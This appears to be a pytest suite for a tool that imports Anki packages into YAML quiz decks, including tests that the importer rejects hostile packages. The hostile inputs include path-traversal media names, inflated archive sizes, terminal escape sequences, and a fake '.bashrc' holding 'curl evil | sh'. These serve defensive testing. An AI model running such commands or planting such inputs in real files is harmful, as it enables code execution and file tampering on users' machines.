"""`srcquiz import`: packages back to YAML decks that load and lint like the originals,
Anki's stock note types, edits made in Anki, hostile packages."""

from __future__ import annotations

import json
import re
import sqlite3
import zipfile
from collections import Counter
from pathlib import Path

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from srcquiz.anki.exporter import export_decks
from srcquiz.anki.html_text import anki_cloze_to_text, html_to_text
from srcquiz.anki.importer import DeckDraft, deck_yaml, import_package
from srcquiz.anki.package import unsafe_media_name
from srcquiz.cli.parser import main
from srcquiz.deck.kinds import Choice, Cloze, Flashcard, Short
from srcquiz.deck.loader import load_deck, load_deck_file, load_decks, parse_deck
from srcquiz.errors import UserError
from srcquiz.textsafe import CONTROL_RE

FIXTURES = Path(__file__).parent.parent / "fixtures"
REPO = Path(__file__).parent.parent.parent
KINDS = FIXTURES / "anki_kinds.yaml"
HOSTILE = FIXTURES / "anki_hostile.yaml"
MODELINE = "# yaml-language-server: $schema=deck.schema.json"


def open_collection(folder: Path):
    from anki.collection import Collection

    folder.mkdir()
    return Collection(str(folder / "collection.anki2"))


def anki_export(col, out: Path, legacy: bool = True) -> Path:
    from anki.collection import ExportAnkiPackageOptions

    options = ExportAnkiPackageOptions(
        with_scheduling=False, with_deck_configs=False, with_media=True, legacy=legacy
    )
    col.export_anki_package(out_path=str(out), options=options, limit=None)
    return out


def rewrite_package(apkg: Path, out: Path, *, sql: str = "", media: dict | None = None) -> Path:
    """A copy of `apkg` with its collection changed by `sql` and/or another media list."""
    with zipfile.ZipFile(apkg) as z:
        collection = z.read("collection.anki2")
    conn = sqlite3.connect(":memory:")
    conn.deserialize(collection)
    if sql:
        conn.executescript(sql)
        conn.commit()
    collection = conn.serialize()
    conn.close()
    with zipfile.ZipFile(out, "w") as z:
        z.writestr("collection.anki2", collection)
        z.writestr("media", json.dumps({str(i): n for i, n in enumerate(media or {})}))
        for i, data in enumerate((media or {}).values()):
            z.writestr(str(i), data)
    return out


def lint_messages(paths: list[Path]) -> Counter[tuple[str, str]]:
    _, diags = load_decks(paths)
    return Counter((d.severity, d.message) for d in diags)


# -- round trips ----------------------------------------------------------------


def test_bundled_decks_round_trip_through_anki_packages(tmp_path):
    decks, diags = load_decks([REPO / "decks"])
    assert decks, "no bundled decks found in decks/"
    assert not [d for d in diags if d.severity == "error"]
    apkg = tmp_path / "all.apkg"
    export_decks(decks, apkg)
    out = tmp_path / "imported"
    result = import_package(apkg, out)
    assert not result.warnings and not result.edits

    again, diags = load_decks([out])
    assert not [d for d in diags if d.severity == "error"]
    by_id = {d.id: d for d in again}
    assert set(by_id) == {d.id for d in decks}
    for deck in decks:
        back = by_id[deck.id]
        assert back.questions == deck.questions, deck.id
        for attr in ("title", "description", "sources", "tags", "shuffle", "anchor"):
            assert getattr(back, attr) == getattr(deck, attr), (deck.id, attr)
    # Whatever the bundled decks are warned about, the imported copies are too; nothing new.
    original = Counter((d.severity, d.message) for d in load_decks([REPO / "decks"])[1])
    assert lint_messages([out]) - original == Counter()
    assert main(["lint", str(out)]) == 0


@pytest.mark.parametrize("fixture", [KINDS, HOSTILE])
def test_fixture_decks_come_back_exactly_and_lint_clean(tmp_path, fixture):
    deck = load_deck(fixture)
    apkg = tmp_path / "deck.apkg"
    export_decks([deck], apkg)
    result = import_package(apkg, tmp_path / "out")
    assert result.decks == [(tmp_path / "out" / f"{deck.id}.yaml", len(deck.questions))]
    written = tmp_path / "out" / f"{deck.id}.yaml"
    text = written.read_text(encoding="utf-8")
    assert text.startswith(MODELINE + "\n")
    back, diags = load_deck_file(written)
    assert diags == [] and back is not None
    assert back.questions == deck.questions
    assert (back.id, back.title, back.sources, back.tags, back.anchor) == (
        deck.id,
        deck.title,
        deck.sources,
        deck.tags,
        deck.anchor,
    )
    assert (tmp_path / "out" / "deck.schema.json").is_file()


def test_imported_yaml_is_readable(tmp_path):
    export_decks([load_deck(KINDS)], tmp_path / "k.apkg")
    import_package(tmp_path / "k.apkg", tmp_path / "out")
    text = (tmp_path / "out" / "anki-kinds.yaml").read_text(encoding="utf-8")
    assert "tags: [anki-test, c++]" in text
    assert "    explanation: |-\n      Every phase handler receives the request object.\n" in text
    assert "    code: |\n      template <typename T, std::size_t N>\n" in text
    assert "    prompt: >-\n      In C++, {{c1::std\\::vector}} grows by" in text
    assert "    pairs:\n      SIGCHLD: ngx_reap\n" in text
    assert "  - id: card-reversed\n" in text and "\n\n  - id: short-array\n" in text
    # Defaults the deck already gives are not repeated on each question.
    assert "version: release-1.27.3" in text and text.count("version:") == 1
    assert text.count("source: Anki fixture article") == 5


# Any text a deck may hold: no lone surrogates, and no control characters but tab
# and newline (decks refuse those: `deck.text_rules`).
_TEXT = st.text(
    alphabet=st.characters(blacklist_categories=("Cs",)),
    min_size=1,
    max_size=120,
).filter(lambda s: s.strip() and CONTROL_RE.search(s) is None)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(prompt=_TEXT, answer=_TEXT, explanation=_TEXT, option=_TEXT)
def test_any_text_survives_the_yaml_writer(prompt, answer, explanation, option):
    card = Flashcard(id="q", prompt=prompt, answer=answer, explanation=explanation, source="s")
    choice = Choice(
        id="c",
        prompt="Pick one",
        options=(option, option + " (other)"),
        correct=(0,),
        source="s",
        explanation="e",
    )
    draft = DeckDraft("d", "Deck", {"sources": ["s"], "description": explanation})
    draft.questions = [card, choice]
    deck, diags = parse_deck(deck_yaml(draft), "d.yaml", "d")
    assert deck is not None, [str(d) for d in diags]
    assert deck.questions == (card, choice)
    assert deck.description == explanation


TRICKY = [
    "yes",
    "1.10",
    "~",
    "- not a list",
    "key: value",
    "# not a comment",
    "trailing space ",
    " leading space",
    "two\n\nparagraphs\n",
    "ends with two newlines\n\n",
    "\tstarts with a tab",
    "line one\n  indented line\n",
    "a  double  spaced  sentence that is long enough to be folded by the writer, "
    "with two  spaces here and there, and then  some more words at the end of it",
    "word " * 40 + "end",
    "unicode 第二篇文章 \u2028 separator and \ufeff bom",
    "quotes ' and \" and back\\slash",
    "{{c1::looks like cloze}} and {{Front}}",
    "[flow] {map} & *alias !tag |pipe >fold %directive @at `tick`",
]


@pytest.mark.parametrize("text", TRICKY)
def test_tricky_text_survives_the_yaml_writer(text):
    card = Flashcard(id="q", prompt=text, answer=text, explanation=text, source=text.strip())
    draft = DeckDraft("d", text.strip(), {"sources": [text.strip()], "description": text})
    draft.questions = [card]
    deck, diags = parse_deck(deck_yaml(draft), "d.yaml", "d")
    assert deck is not None, [str(d) for d in diags]
    assert deck.questions == (card,)
    assert (deck.title, deck.description, deck.sources) == (text.strip(), text, (text.strip(),))


# -- edits made in Anki ------------------------------------------------------------


def test_edits_made_in_anki_come_back_and_the_rest_is_unchanged(tmp_path):
    from anki.collection import ImportAnkiPackageRequest

    deck = load_deck(KINDS)
    export_decks([deck], tmp_path / "k.apkg")
    col = open_collection(tmp_path / "anki")
    try:
        col.import_anki_package(ImportAnkiPackageRequest(package_path=str(tmp_path / "k.apkg")))
        for nid in col.find_notes(""):
            note = col.get_note(nid)
            qid = json.loads(note["Srcquiz"])["q"]["id"]
            if qid == "card-plain":
                note["Prompt"] = "What does <b>r</b> point to?<div>(edited in Anki)</div>"
            elif qid == "cloze-vector":
                note["Text"] = note["Text"].replace("appends", "appends at the end")
            elif qid == "short-array":
                note["Explanation"] = "It never allocates&nbsp;on the heap."
            else:
                continue
            col.update_note(note)
        package = anki_export(col, tmp_path / "from-anki.apkg")
    finally:
        col.close()

    result = import_package(package, tmp_path / "out")
    assert result.edits == 3 and not result.warnings
    back = load_deck(tmp_path / "out" / "anki-kinds.yaml")
    changed = {q.id: q for q in back.questions}
    assert changed["card-plain"].prompt == "What does r point to?\n(edited in Anki)"
    assert changed["cloze-vector"].prompt == (
        "In C++, {{c1::std\\::vector}} grows by {{c2::doubling::how?}}, "
        "and {{c1::push_back}} appends at the end."
    )
    assert changed["short-array"].explanation == "It never allocates on the heap."
    edited = {"card-plain", "cloze-vector", "short-array"}
    assert [q for q in back.questions if q.id not in edited] == [
        q for q in deck.questions if q.id not in edited
    ]


# -- Anki's own note types ----------------------------------------------------------


def _stock_collection(tmp_path: Path):
    col = open_collection(tmp_path / "anki")
    deck_id = col.decks.id("Languages::Signals")

    def add(model_name: str, deck: int = deck_id, **fields: str) -> None:
        note = col.new_note(col.models.by_name(model_name))
        for k, v in fields.items():
            note[k] = v
        note.tags = ["anki", "imported"]
        col.add_note(note, deck)

    add("Basic", Front="What is <b>SIGHUP</b>?", Back='Hang up<br>see <img src="hup.png">')
    add("Basic (and reversed card)", Front="SIGTERM", Back="terminate")
    add("Basic (optional reversed card)", Front="SIGINT", Back="interrupt", **{"Add Reverse": ""})
    add("Basic (optional reversed card)", Front="SIGQUIT", Back="quit", **{"Add Reverse": "y"})
    add("Basic (type in the answer)", Front="Signal number of SIGKILL?", Back="9")
    add(
        "Cloze",
        Text="C++ {{c1::std::vector}} and {{c2::<code>epoll</code>::syscall}}",
        **{"Back Extra": "Two blanks."},
    )
    vocab = col.models.new("Vocab")
    for name in ("Word", "Meaning", "Example"):
        col.models.add_field(vocab, col.models.new_field(name))
    tmpl = col.models.new_template("Recognition")
    tmpl["qfmt"] = "{{Word}}<br>{{Example}}"
    tmpl["afmt"] = "{{FrontSide}}<hr id=answer>{{Meaning}}"
    col.models.add_template(vocab, tmpl)
    col.models.add(vocab)
    add("Vocab", deck=col.decks.id("Vocab deck"), Word="信号", Meaning="signal", Example="x")
    col.media.write_data("hup.png", b"\x89PNG hup")
    return col


def test_stock_note_types_map_to_kinds_and_media_is_copied(tmp_path):
    col = _stock_collection(tmp_path)
    try:
        package = anki_export(col, tmp_path / "stock.apkg")
    finally:
        col.close()
    out = tmp_path / "out"
    result = import_package(package, out)
    assert result.warnings == [
        "note type `Vocab` is not one srcquiz knows: its 1 note(s) became `card` questions "
        "from their first two fields"
    ]
    assert result.media == 1 and (out / "hup.png").read_bytes() == b"\x89PNG hup"
    decks, diags = load_decks([out])
    assert not [d for d in diags if d.severity == "error"]
    by_title = {d.title: d for d in decks}
    assert set(by_title) == {"Signals", "Vocab deck"}
    signals = by_title["Signals"]
    assert signals.id == "languages-signals" and signals.sources == ("Languages::Signals",)
    qs = list(signals.questions)
    assert [q.kind for q in qs] == ["card", "card", "card", "card", "short", "cloze"]
    assert [getattr(q, "reversed", None) for q in qs[:4]] == [False, True, False, True]
    assert qs[0].prompt == "What is SIGHUP?"
    assert qs[0].answer == "Hang up\nsee ![](hup.png)"
    assert qs[0].tags == ("anki", "imported")
    assert isinstance(qs[4], Short) and (qs[4].prompt, qs[4].answer) == (
        "Signal number of SIGKILL?",
        "9",
    )
    assert isinstance(qs[5], Cloze)
    assert qs[5].prompt == "C++ {{c1::std::vector}} and {{c2::`epoll`::syscall}}"
    # Anki reads `std::vector` in a deletion as answer `std`, hint `vector`; so does srcquiz.
    assert [(d.answer, d.hint) for d in qs[5].deletions()] == [
        ("std", "vector"),
        ("`epoll`", "syscall"),
    ]
    assert qs[5].explanation == "Two blanks."
    (vocab,) = by_title["Vocab deck"].questions
    assert isinstance(vocab, Flashcard) and (vocab.prompt, vocab.answer) == ("信号", "signal")

    # The imported deck exports again, its image included.
    summary = export_decks([signals], tmp_path / "again.apkg")
    assert summary.media == 1


def test_packages_in_ankis_newer_format_import_like_the_legacy_ones(tmp_path):
    """What Anki desktop writes by default today (collection.anki21b, zstd) is read
    through Anki itself and gives the same decks as the legacy export."""
    col = _stock_collection(tmp_path)
    try:
        modern = anki_export(col, tmp_path / "modern.apkg", legacy=False)
        legacy = anki_export(col, tmp_path / "legacy.apkg", legacy=True)
    finally:
        col.close()
    import_package(modern, tmp_path / "from-modern")
    import_package(legacy, tmp_path / "from-legacy")
    texts = {
        side: {p.name: p.read_text() for p in sorted((tmp_path / f"from-{side}").glob("*.yaml"))}
        for side in ("modern", "legacy")
    }
    assert texts["modern"] and texts["modern"] == texts["legacy"]


# -- hostile packages -----------------------------------------------------------------


@pytest.mark.parametrize(
    "name", ["../evil.png", "/tmp/evil.png", "sub/evil.png", "..", "a\\b.png", "C:evil.png", ""]
)
def test_media_names_that_escape_the_folder_refuse_the_package(tmp_path, name):
    export_decks([load_deck(KINDS)], tmp_path / "k.apkg")
    bad = rewrite_package(tmp_path / "k.apkg", tmp_path / "bad.apkg", media={name: b"x"})
    out = tmp_path / "out"
    with pytest.raises(UserError, match=r"^refusing .*bad\.apkg: it holds a media file named"):
        import_package(bad, out)
    assert not out.exists()
    assert not (tmp_path / "evil.png").exists()


def test_media_name_check():
    assert not unsafe_media_name("diagram (1).png")
    assert not unsafe_media_name("信号.png")
    for name in ("..", ".", "a/b", "a\\b", "x\x00.png", "tab\t.png", "C:x", 3, None, "a" * 300):
        assert unsafe_media_name(name), name


def test_damaged_srcquiz_data_skips_that_note_with_a_warning(tmp_path):
    export_decks([load_deck(KINDS)], tmp_path / "k.apkg")
    bad = rewrite_package(
        tmp_path / "k.apkg",
        tmp_path / "bad.apkg",
        sql='UPDATE notes SET flds = replace(flds, \'"kind":"order"\', \'"kind":"essay"\');',
    )
    result = import_package(bad, tmp_path / "out")
    assert result.warnings == [
        "1 srcquiz note(s) had damaged data in their Srcquiz field and were skipped"
    ]
    back = load_deck(tmp_path / "out" / "anki-kinds.yaml")
    assert "order-quit" not in {q.id for q in back.questions} and len(back.questions) == 10


def test_cli_import_reports_bad_input_in_one_sentence(tmp_path, capsys):
    missing = tmp_path / "missing.apkg"
    assert main(["import", str(missing), "-o", str(tmp_path / "out")]) == 1
    assert capsys.readouterr().err == f"srcquiz: {missing}: no such file.\n"

    text = tmp_path / "notes.apkg"
    text.write_text("not a zip", encoding="utf-8")
    assert main(["import", str(text)]) == 1
    assert capsys.readouterr().err == (
        f"srcquiz: {text} is not an Anki package (.apkg): it is not a zip archive.\n"
    )

    empty = tmp_path / "empty.apkg"
    with zipfile.ZipFile(empty, "w") as z:
        z.writestr("readme.txt", "hi")
    assert main(["import", str(empty)]) == 1
    assert "it holds no Anki collection" in capsys.readouterr().err

    export_decks([load_deck(KINDS)], tmp_path / "k.apkg")
    a_file = tmp_path / "file"
    a_file.write_text("x", encoding="utf-8")
    assert main(["import", str(tmp_path / "k.apkg"), "-o", str(a_file)]) == 1
    assert capsys.readouterr().err == (
        f"srcquiz: {a_file} is a file; give a folder to write the decks into.\n"
    )

    assert main(["import", str(tmp_path / "k.apkg"), "-o", str(tmp_path / "ok")]) == 0
    out = capsys.readouterr().out
    assert out == f"wrote {tmp_path / 'ok' / 'anki-kinds.yaml'} (11 question(s))\n"


# -- HTML to text ----------------------------------------------------------------------


def test_html_from_the_anki_editor_reads_as_plain_text():
    assert html_to_text("a<div>b</div><div>c<br></div>") == "a\nb\nc"
    assert html_to_text("x&nbsp;&lt;T&gt; &amp; <code>f()</code>") == "x <T> & `f()`"
    assert html_to_text('<img src="a.png" alt="A"><script>alert(1)</script>') == "![A](a.png)"
    assert html_to_text("<style>p{}</style><p>one</p><p>two</p>") == "one\ntwo"


def test_anki_cloze_reads_as_a_deck_cloze():
    assert anki_cloze_to_text("{{c1::std&#58;&#58;vector}} x") == "{{c1::std\\::vector}} x"
    assert anki_cloze_to_text("{{c1::a::hint}} &#123;&#123;c2::b}}") == "{{c1::a::hint}} { {c2::b}}"
    text = anki_cloze_to_text("<b>{{c2::x}}</b> and {{c1::y}}")
    assert text == "{{c2::x}} and {{c1::y}}"
    assert re.findall(r"c(\d)", text) == ["2", "1"]


# -- the output folder: only declared files, nothing replaced unasked (#20) ------------


def kinds_package(tmp_path: Path, name: str = "p.apkg", **changes) -> Path:
    """The anki_kinds deck as a package, its collection and media changed as asked."""
    base = tmp_path / "kinds.apkg"
    if not base.exists():
        export_decks([load_deck(KINDS)], base)
    return rewrite_package(base, tmp_path / name, **changes)


def patch_central_directory(apkg: Path, member: str, offset: int, value: int) -> None:
    """Overwrite a 4-byte field of `member`'s central directory entry: 16 is its
    CRC-32, 24 the uncompressed size it declares."""
    data = bytearray(apkg.read_bytes())
    name = member.encode()
    pos = data.find(b"PK\x01\x02")
    while pos != -1:
        length = int.from_bytes(data[pos + 28 : pos + 30], "little")
        if data[pos + 46 : pos + 46 + length] == name:
            data[pos + offset : pos + offset + 4] = value.to_bytes(4, "little")
            apkg.write_bytes(data)
            return
        pos = data.find(b"PK\x01\x02", pos + 4)
    raise AssertionError(f"{member} is not in {apkg}")


def folder_state(folder: Path) -> dict[str, bytes]:
    return {
        str(p.relative_to(folder)): p.read_bytes() if p.is_file() else b"<dir>"
        for p in sorted(folder.rglob("*"))
    }


def test_media_list_cannot_replace_dotfiles_progress_or_the_imported_deck(tmp_path):
    media = {
        ".bashrc": b"curl evil | sh",
        "progress.sqlite3": b"not a database",
        "anki-kinds.yaml": b"title: replaced\n",
        "deck.schema.json": b"{}",
        ".hidden.png": b"\x89PNG hidden",
        "diagram.png": b"\x89PNG diagram",
    }
    package = kinds_package(tmp_path, media=media)
    out = tmp_path / "out"
    out.mkdir()
    (out / ".bashrc").write_text("alias ll='ls -l'\n")
    (out / "progress.sqlite3").write_bytes(b"my study history")

    result = import_package(package, out)

    assert (out / ".bashrc").read_text() == "alias ll='ls -l'\n"
    assert (out / "progress.sqlite3").read_bytes() == b"my study history"
    assert len(load_deck(out / "anki-kinds.yaml").questions) == 11
    assert json.loads((out / "deck.schema.json").read_text())["type"] == "object"
    assert (out / "diagram.png").read_bytes() == b"\x89PNG diagram"
    assert not (out / ".hidden.png").exists()
    assert result.media == 1
    assert len(result.warnings) == 1 and result.warnings[0].startswith(
        'left out 5 file(s) of the package\'s media that are not images, audio or video, '
        'or are hidden: ".bashrc", "progress.sqlite3"'
    )
    assert sorted(p.name for p in out.iterdir()) == [
        ".bashrc",
        "anki-kinds.yaml",
        "deck.schema.json",
        "diagram.png",
        "progress.sqlite3",
    ]


def test_existing_files_are_replaced_only_with_overwrite(tmp_path, capsys):
    out = tmp_path / "out"
    first = kinds_package(tmp_path, "first.apkg", media={"a.png": b"A"})
    assert main(["import", str(first), "-o", str(out)]) == 0
    # The same package again changes nothing, so it needs no flag.
    assert main(["import", str(first), "-o", str(out)]) == 0
    capsys.readouterr()

    deck = out / "anki-kinds.yaml"
    deck.write_text(deck.read_text().replace("Anki export, every kind", "My own title"))
    second = kinds_package(tmp_path, "second.apkg", media={"a.png": b"A2", "b.png": b"B"})
    before = folder_state(out)
    assert main(["import", str(second), "-o", str(out)]) == 1
    err = capsys.readouterr().err
    assert err == (
        f"srcquiz: {out} already holds anki-kinds.yaml, a.png; give --overwrite to "
        "replace them. Nothing was written.\n"
    )
    assert folder_state(out) == before  # b.png, new and harmless, was not written either

    assert main(["import", str(second), "-o", str(out), "--overwrite"]) == 0
    assert "My own title" not in deck.read_text()
    assert (out / "a.png").read_bytes() == b"A2" and (out / "b.png").read_bytes() == b"B"
    assert [p.name for p in out.iterdir() if p.name.startswith(".")] == []


def test_a_link_in_the_folder_is_replaced_not_followed(tmp_path):
    victim = tmp_path / "victim.txt"
    victim.write_text("keep me")
    out = tmp_path / "out"
    out.mkdir()
    (out / "pic.png").symlink_to(victim)
    package = kinds_package(tmp_path, media={"pic.png": b"\x89PNG"})
    with pytest.raises(UserError, match=r"already holds pic\.png; give --overwrite"):
        import_package(package, out)
    assert (out / "pic.png").is_symlink() and not (out / "anki-kinds.yaml").exists()

    import_package(package, out, overwrite=True)
    assert victim.read_text() == "keep me"
    assert not (out / "pic.png").is_symlink()
    assert (out / "pic.png").read_bytes() == b"\x89PNG"


def test_a_package_damaged_half_way_writes_nothing(tmp_path):
    package = kinds_package(tmp_path, media={"a.png": b"A" * 1000, "b.png": b"B" * 1000})
    patch_central_directory(package, "1", 16, 0)  # b.png's checksum no longer matches
    out = tmp_path / "out"
    with pytest.raises(UserError, match=r'media file "b\.png" is damaged inside the archive'):
        import_package(package, out)
    assert not out.exists()


# -- sizes: caps on what a package declares and holds (#20) ---------------------------


@pytest.mark.parametrize(
    ("member", "declared", "message"),
    [
        ("collection.anki2", 600 * 2**20, "its Anki collection is 600.0 MiB, more than the 512.0"),
        ("0", 300 * 2**20, 'media file "a.png" is 300.0 MiB, more than the 256.0 MiB'),
        ("media", 100 * 2**20, "its media list is 100.0 MiB, more than the 64.0 MiB"),
    ],
)
def test_members_declaring_too_much_are_refused_before_reading(
    tmp_path, member, declared, message
):
    package = kinds_package(tmp_path, media={"a.png": b"\x89PNG"})
    patch_central_directory(package, member, 24, declared)
    out = tmp_path / "out"
    with pytest.raises(UserError, match=re.escape(message)):
        import_package(package, out)
    assert not out.exists()


def test_media_adding_up_to_too_much_are_refused(tmp_path):
    names = [f"{i}.png" for i in range(5)]
    package = kinds_package(tmp_path, media={n: b"x" for n in names})
    for i in range(5):
        patch_central_directory(package, str(i), 24, 250 * 2**20)
    with pytest.raises(UserError, match=r"its media files come to 1250\.0 MiB, more than"):
        import_package(package, tmp_path / "out")
    assert not (tmp_path / "out").exists()


def test_a_member_holding_more_than_it_declares_is_refused(tmp_path):
    package = kinds_package(tmp_path, media={"big.png": b"\x89PNG" + b"\x00" * 2**20})
    patch_central_directory(package, "0", 24, 16)
    with pytest.raises(UserError, match=r'media file "big\.png" is damaged inside the archive'):
        import_package(package, tmp_path / "out")
    assert not (tmp_path / "out").exists()


# -- damaged collections: one sentence, never a traceback (#20) ------------------------

_DEEP = "printf('%.*c', 100000, '[')"


@pytest.mark.parametrize(
    ("sql", "message"),
    [
        ("UPDATE col SET models = '[1]'", "its note types are not a JSON object"),
        ("UPDATE col SET models = '{\"1\": 5}'", 'its note types hold "1", which is not a JSON'),
        ("UPDATE col SET models = '{\"x\": {}}'", 'the id "x", which is not a number'),
        ("UPDATE col SET models = json_set(models, '$.1721004101.flds', json('[1, 2]'))",
         "a field of note type 1721004101 is not a JSON object"),
        ("UPDATE col SET models = json_set(models, '$.1721004101.flds[0].name', 7)",
         "a field of note type 1721004101 has a `name` that is not text"),
        ("UPDATE col SET models = json_set(models, '$.1721004101.tmpls', 'abc')",
         "note type 1721004101 has a `tmpls` that is not a list"),
        ("UPDATE col SET decks = json_set(decks, '$.1', 'x')", 'its decks hold "1", which is'),
        ("UPDATE col SET decks = json_set(decks, '$.1.name', json('[1]'))",
         "deck 1 has a `name` that is not text"),
        ("UPDATE col SET decks = json_set(decks, '$.1.desc', 3)",
         "deck 1 has a `desc` that is not text"),
        ("UPDATE col SET decks = " + _DEEP, "its decks are not JSON"),
        ("UPDATE notes SET flds = X'00'", "has fields or tags that are not text"),
        ("UPDATE notes SET tags = X'00'", "has fields or tags that are not text"),
        ("UPDATE cards SET did = 'x'", "has a deck id that is not a number"),
        ("DELETE FROM col", "it has no collection row"),
    ],
)
def test_damaged_collections_are_refused_in_one_sentence(tmp_path, sql, message):
    package = kinds_package(tmp_path, sql=sql)
    with pytest.raises(UserError, match=r"^\S+p\.apkg: the Anki collection inside is damaged"):
        try:
            import_package(package, tmp_path / "out")
        except UserError as exc:
            assert message in str(exc) and "\n" not in str(exc)
            raise
    assert not (tmp_path / "out").exists()


def test_an_empty_collection_is_refused_in_one_sentence(tmp_path, capsys):
    package = tmp_path / "empty.apkg"
    with zipfile.ZipFile(package, "w") as z:
        z.writestr("collection.anki2", b"")
    assert main(["import", str(package), "-o", str(tmp_path / "out")]) == 1
    assert capsys.readouterr().err == (
        f"srcquiz: {package}: its Anki collection is empty; the package cannot be imported.\n"
    )


def test_deeply_nested_json_in_a_note_or_deck_settings_is_damaged_data(tmp_path):
    sql = (
        f"UPDATE notes SET flds = replace(flds, '{{\"v\":1', {_DEEP} || '{{\"v\":1') "
        "WHERE flds LIKE 'What does%';"
        f"UPDATE col SET decks = replace(decks, '<!--srcquiz-deck ', '<!--srcquiz-deck ' || "
        f"{_DEEP});"
    )
    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
    assert result.warnings == [
        "1 srcquiz note(s) had damaged data in their Srcquiz field and were skipped"
    ]
    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
    assert len(deck.questions) == 10 and deck.title == "Anki export, every kind"


def test_deck_settings_of_the_wrong_type_are_left_out(tmp_path):
    sql = (
        "UPDATE col SET decks = replace(decks, '\\\"tags\\\":[\\\"anki-test\\\",\\\"c++\\\"]', "
        "'\\\"tags\\\":5');"
    )
    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
    assert not result.warnings and deck.tags == () and deck.title == "Anki export, every kind"


def test_long_deck_names_and_ids(tmp_path):
    # Anki's nested deck names can be long: the file name is cut, the deck imports.
    long_name = "Languages::" + "Very long deck name " * 15
    sql = (
        "UPDATE col SET models = replace(models, '\"Srcquiz\"', '\"Data\"');"
        f"UPDATE col SET decks = json_set(decks, '$.1792872879114.name', '{long_name}');"
    )
    result = import_package(kinds_package(tmp_path, "names.apkg", sql=sql), tmp_path / "a")
    ((path, count),) = result.decks
    assert path.stem.startswith("languages-very-long-deck-name-") and len(path.stem) <= 100
    assert count == 11
    assert load_deck(path).sources == (long_name,)

    # A srcquiz deck id is kept exact, so one longer than a file name allows refuses.
    deck_id = "a" * 300
    sql = (
        "UPDATE notes SET flds = "
        f"replace(flds, '\"deck\":\"anki-kinds\"', '\"deck\":\"{deck_id}\"')"
    )
    with pytest.raises(UserError, match=r"deck id `a{40}…` is 300 characters long"):
        import_package(kinds_package(tmp_path, "ids.apkg", sql=sql), tmp_path / "b")
    assert not (tmp_path / "b").exists()


@pytest.mark.parametrize(
    "sql",
    [
        # A control character typed into a field in Anki ...
        "UPDATE notes SET flds = replace(flds, 'What does', 'What' || char(7) || ' does') "
        "WHERE flds LIKE 'What does%'",
        # ... or escaped in the JSON of srcquiz's own data.
        "UPDATE notes SET flds = replace(flds, '\"What does', '\"What\\u001b[2J does') "
        "WHERE flds LIKE 'What does%'",
    ],
)
def test_notes_with_control_characters_are_skipped_with_a_warning(tmp_path, sql):
    package = kinds_package(tmp_path, sql=sql)
    with sqlite3.connect(":memory:") as conn, zipfile.ZipFile(package) as z:
        conn.deserialize(z.read("collection.anki2"))
        (nid,) = conn.execute("SELECT id FROM notes WHERE flds LIKE 'What%'").fetchone()
    result = import_package(package, tmp_path / "out")
    (warning,) = result.warnings
    assert warning.startswith(f"note {nid} ") and "and was skipped" in warning
    assert re.search(r"control character U\+00(07|1B)", warning)
    deck = load_deck(tmp_path / "out" / "anki-kinds.yaml")
    assert "card-plain" not in {q.id for q in deck.questions} and len(deck.questions) == 10


def test_control_characters_in_deck_and_note_type_names_are_not_passed_on(tmp_path):
    sql = (
        "UPDATE col SET models = replace(models, '\"Srcquiz\"', '\"Data\"');"
        "UPDATE col SET models = json_set(models, '$.1721004101.name', "
        "'Evil' || char(27) || '[2J');"
        "UPDATE col SET decks = json_set(decks, '$.1792872879114.name', "
        "'srcquiz::Bell' || char(7));"
    )
    result = import_package(kinds_package(tmp_path, sql=sql), tmp_path / "out")
    assert "note type `note type 1721004101` is not one srcquiz knows" in result.warnings[0]
    assert not any(re.search(r"[\x00-\x08\x0b-\x1f\x7f]", w) for w in result.warnings)
    ((path, _),) = result.decks
    deck = load_deck(path)
    assert path.name == "deck-1792872879114.yaml"
    assert (deck.title, deck.sources) == ("deck 1792872879114", ("deck 1792872879114",))


def test_a_note_export_retired_is_left_out_not_imported_twice(tmp_path):
    """A question whose kind changed is exported as a new note and its old note once
    more, retired: importing that package gives the question once, as it is now."""
    deck = tmp_path / "d.yaml"
    head = "title: D\nsources: [s]\nquestions:\n  - id: q\n    prompt: Is the sky blue?\n"
    deck.write_text(head + "    kind: short\n    answer: yes, mostly\n    explanation: e e e.\n")
    package = tmp_path / "d.apkg"
    export_decks([load_deck(deck)], package)
    deck.write_text(head + "    kind: truefalse\n    answer: true\n    explanation: e e e.\n")
    export_decks([load_deck(deck)], package)
    result = import_package(package, tmp_path / "out")
    back = load_deck(tmp_path / "out" / "d.yaml")
    assert [(q.id, q.kind) for q in back.questions] == [("q", "truefalse")]
    assert any("no longer asks" in w for w in result.warnings)
